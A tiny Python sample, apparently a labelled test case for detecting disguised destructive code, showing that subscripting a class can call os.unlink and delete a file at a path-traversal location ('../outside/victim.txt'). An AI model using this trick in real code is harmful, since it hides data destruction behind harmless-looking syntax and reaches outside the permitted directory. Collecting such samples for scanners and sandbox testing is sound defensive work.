# A subscript of a class is a call.
# damage: deleted
import os


class Registry:
    __class_getitem__ = os.unlink


Registry["../outside/victim.txt"]
